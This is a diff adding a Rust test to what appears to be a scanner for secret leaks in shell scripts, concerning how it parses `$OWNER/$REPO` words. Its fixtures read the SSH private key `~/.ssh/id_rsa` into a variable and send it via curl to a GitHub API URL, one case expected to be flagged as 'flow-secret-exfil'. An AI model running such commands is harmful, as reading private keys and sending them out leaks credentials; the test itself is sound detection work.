@@ -322,3 +322,14 @@ fn a_token_presented_to_the_host_that_issued_it_is_clean_anywhere_else_high() {
         );
     }
 }
+
+/// tree-sitter-bash reads `…/$OWNER/$REPO/…` as two words; they are one,
+/// and `$REPO` is an expansion, not the text `REPO`.
+#[test]
+fn a_word_the_grammar_splits_after_a_dollar_is_one_word_with_its_expansion() {
+    let read = "TOKEN=$(cat ~/.ssh/id_rsa)\nOWNER=o\nREPO=r\n";
+    let own = "curl -s -H \"Authorization: token $TOKEN\" https://api.github.com/repos/$OWNER/$REPO/issues/42";
+    assert_clean("x.sh", &format!("{read}{own}"));
+    let leaked = "curl -s https://api.github.com/repos/$OWNER/$TOKEN/x";
+    assert_high("x.sh", &format!("{read}{leaked}"), "flow-secret-exfil", 4);
+}
